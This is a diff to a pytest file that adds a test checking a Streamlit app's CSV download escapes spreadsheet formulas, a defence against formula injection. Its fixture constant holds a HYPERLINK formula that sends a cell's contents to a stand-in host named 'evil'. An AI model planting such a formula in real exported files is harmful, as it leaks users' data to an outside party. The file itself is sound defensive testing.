@@ -1,12 +1,13 @@
 """Rows to take along."""
 
 import ast
+import csv
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
-from pages.parts.download import as_cells
+from pages.parts.download import as_cells, download_csv
 
 PAGES = Path(__file__).parents[2] / "pages"
 LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
@@ -16,6 +17,14 @@ LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
 def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
     rows = as_cells([{"event": text, "reward": -0.5}])
     assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]
+
+
+def test_what_is_taken_along_holds_no_formula(monkeypatch: pytest.MonkeyPatch) -> None:
+    taken: list[str] = []
+    monkeypatch.setattr("streamlit.download_button", lambda _, made, **more: taken.append(made()))
+    download_csv("Download", lambda: [{"event": LINK, "reward": -0.5}], key="csv", name="log")
+    (text,) = taken
+    assert list(csv.DictReader(text.splitlines())) == [{"event": f"'{LINK}", "reward": "-0.5"}]
 
 
 def test_all_else_stays_as_it_is() -> None:
